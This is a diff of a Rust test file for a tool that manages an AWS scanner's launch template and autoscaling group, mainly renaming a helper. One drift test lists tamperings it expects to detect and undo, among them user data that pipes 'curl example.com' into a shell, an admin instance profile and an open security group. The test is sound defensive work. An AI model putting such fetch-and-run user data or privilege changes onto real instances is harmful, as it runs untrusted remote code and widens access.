@@ -6,7 +6,7 @@ use crate::aws::fake::FakeAws;
 
 const PROFILE: &str = "arn:aws:iam::111122223333:instance-profile/scanner";
 
-fn stage() -> (Arc<FakeAws>, Stage<Scanner<FakeAws>>) {
+fn start() -> (Arc<FakeAws>, Stage<Scanner<FakeAws>>) {
     let aws = Arc::new(FakeAws::default());
     let settings = Settings { region: Value::Known("eu-central-1".parse().unwrap()), ..Settings::default() };
     (aws.clone(), Stage::new(Scanner::new(aws, Arc::new(settings))))
@@ -36,7 +36,7 @@ fn launched(aws: &FakeAws) -> TemplateContent {
 
 #[tokio::test(start_paused = true)]
 async fn a_new_scanner_is_a_pinned_template_and_a_group() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     assert_eq!(stage.apply(&config()).await.unwrap(), Action::Create);
     assert_eq!(aws.take_changes(), ["ec2:CreateLaunchTemplate", "autoscaling:CreateAutoScalingGroup"]);
     let content = launched(&aws);
@@ -53,14 +53,14 @@ async fn a_new_scanner_is_a_pinned_template_and_a_group() {
         assert_eq!((settings.min_healthy_percentage, settings.max_healthy_percentage), (100, 200));
         assert_eq!(settings.desired_capacity, Some(1));
     }
-    let state = stage.state().clone();
+    let made = stage.state().clone();
     assert_eq!(stage.drift(&config()).await, Action::Nothing);
-    assert_eq!(*stage.state(), state);
+    assert_eq!(*stage.state(), made);
 }
 
 #[tokio::test(start_paused = true)]
 async fn a_change_of_what_is_launched_makes_a_new_version() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     aws.take_calls();
     let newer = Model { image_id: "ami-2".into(), ..config() };
@@ -78,7 +78,7 @@ async fn a_change_of_what_is_launched_makes_a_new_version() {
 
 #[tokio::test(start_paused = true)]
 async fn a_change_of_the_group_alone_makes_no_version() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     aws.take_calls();
     let larger = Model { max_size: 3.into(), subnet_ids: set(["subnet-3"]), ..config() };
@@ -89,7 +89,7 @@ async fn a_change_of_the_group_alone_makes_no_version() {
 
 #[tokio::test(start_paused = true)]
 async fn settings_and_tags_reach_the_instances() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     let settings = ScannerSettings { log_level: "debug".into(), scan_interval_hours: 6.into() };
     let changed = Model {
@@ -108,7 +108,7 @@ async fn settings_and_tags_reach_the_instances() {
 
 #[tokio::test(start_paused = true)]
 async fn a_desired_capacity_nobody_configured_is_left_alone() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     let range = Model { min_size: 1.into(), max_size: 4.into(), ..config() };
     stage.apply(&range).await.unwrap();
     let scale = |count| {
@@ -138,9 +138,15 @@ async fn a_desired_capacity_nobody_configured_is_left_alone() {
     assert_eq!(desired(), Some(2));
 }
 
+async fn repaired(stage: &mut Stage<Scanner<FakeAws>>, what: &str) {
+    assert_eq!(stage.drift(&config()).await, Action::Update, "{what}");
+    stage.apply(&config()).await.unwrap();
+    assert_eq!(stage.drift(&config()).await, Action::Nothing, "{what}");
+}
+
 #[tokio::test(start_paused = true)]
 async fn whatever_weakens_the_scanner_shows_in_the_plan_and_is_undone() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     let in_content: [fn(&mut TemplateContent); 9] = [
         |content| content.metadata.http_tokens = "optional".to_owned(),
@@ -151,7 +157,7 @@ async fn whatever_weakens_the_scanner_shows_in_the_plan_and_is_undone() {
         |content| content.user_data = "#!/bin/sh\ncurl example.com | sh\n".to_owned(),
         |content| content.image_id = "ami-evil".to_owned(),
         |content| {
-            content.instance_profile_arn = "arn:aws:iam::111122223333:instance-profile/admin".to_owned()
+            content.instance_profile_arn = "arn:aws:iam::111122223333:instance-profile/admin".to_owned();
         },
         |content| _ = content.security_group_ids.insert("sg-open".to_owned()),
     ];
@@ -182,16 +188,11 @@ async fn whatever_weakens_the_scanner_shows_in_the_plan_and_is_undone() {
         change(&mut aws.world().scaling_groups.get_mut("scanner").unwrap().settings);
         repaired(&mut stage, &format!("group {number}")).await;
     }
-    async fn repaired(stage: &mut Stage<Scanner<FakeAws>>, what: &str) {
-        assert_eq!(stage.drift(&config()).await, Action::Update, "{what}");
-        stage.apply(&config()).await.unwrap();
-        assert_eq!(stage.drift(&config()).await, Action::Nothing, "{what}");
-    }
 }
 
 #[tokio::test(start_paused = true)]
 async fn a_group_or_template_that_is_gone_comes_back() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     aws.world().scaling_groups.clear();
     assert_eq!(stage.drift(&config()).await, Action::Update);
@@ -211,7 +212,7 @@ async fn a_group_or_template_that_is_gone_comes_back() {
 
 #[tokio::test(start_paused = true)]
 async fn an_existing_group_is_not_adopted() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     let before = aws.world().scaling_groups["scanner"].settings.template.clone();
     let mut other = Stage::new(Scanner::new(aws.clone(), stage.resource.settings.clone()));
@@ -224,7 +225,7 @@ async fn an_existing_group_is_not_adopted() {
 
 #[tokio::test(start_paused = true)]
 async fn a_scanner_whose_group_failed_is_saved_and_can_be_destroyed() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     aws.fail("autoscaling:CreateAutoScalingGroup", "AccessDenied", "not you");
     let error = stage.apply(&config()).await.unwrap_err();
     assert!(error.detail.contains("permission autoscaling:CreateAutoScalingGroup"), "{}", error.detail);
@@ -235,7 +236,7 @@ async fn a_scanner_whose_group_failed_is_saved_and_can_be_destroyed() {
 
 #[tokio::test(start_paused = true)]
 async fn somebody_elses_group_survives_the_destruction_of_a_failed_scanner() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     // AWS lost the race: a group of the name appears after the scanner has looked.
     aws.fail("autoscaling:CreateAutoScalingGroup", "AlreadyExists", "there is one");
     stage.apply(&config()).await.unwrap_err();
@@ -251,7 +252,7 @@ async fn somebody_elses_group_survives_the_destruction_of_a_failed_scanner() {
 
 #[tokio::test(start_paused = true)]
 async fn a_group_whose_creation_was_not_confirmed_is_destroyed() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     aws.fail("autoscaling:CreateAutoScalingGroup", "ServiceUnavailable", "who knows");
     stage.apply(&config()).await.unwrap_err();
     let id = stage.state().launch_template_id.clone().known().unwrap();
@@ -264,7 +265,7 @@ async fn a_group_whose_creation_was_not_confirmed_is_destroyed() {
 
 #[tokio::test(start_paused = true)]
 async fn a_profile_that_is_not_known_yet_is_waited_for() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     for _ in 0..4 {
         let message = "You must use a valid fully-formed launch template. Invalid IAM Instance Profile ARN";
         aws.fail("autoscaling:CreateAutoScalingGroup", "ValidationError", message);
@@ -275,7 +276,7 @@ async fn a_profile_that_is_not_known_yet_is_waited_for() {
 
 #[tokio::test(start_paused = true)]
 async fn destroy_waits_for_the_instances_before_the_template_goes() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     aws.take_calls();
     aws.world().lingering = 20;
@@ -295,7 +296,7 @@ async fn destroy_waits_for_the_instances_before_the_template_goes() {
 
 #[tokio::test(start_paused = true)]
 async fn destroy_can_be_interrupted_and_goes_on_later() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     stage.apply(&config()).await.unwrap();
     aws.world().lingering = 20;
     stage.stop.cancel();
@@ -309,7 +310,7 @@ async fn destroy_can_be_interrupted_and_goes_on_later() {
 
 #[tokio::test(start_paused = true)]
 async fn an_image_of_another_region_is_told_at_the_argument() {
-    let (aws, mut stage) = stage();
+    let (aws, mut stage) = start();
     let error = stage.apply(&Model { image_id: "ami-gone".into(), ..config() }).await.unwrap_err();
     assert_eq!(error.summary, "There is no image ami-gone in eu-central-1");
     assert_eq!(error.path, "image_id".into());
@@ -318,7 +319,7 @@ async fn an_image_of_another_region_is_told_at_the_argument() {
 
 #[tokio::test(start_paused = true)]
 async fn an_import_finds_everything() {
-    let (_, mut stage) = stage();
+    let (_, mut stage) = start();
     let settings = ScannerSettings { log_level: "debug".into(), scan_interval_hours: 6.into() };
     let config = Model {
         settings: settings.into(),
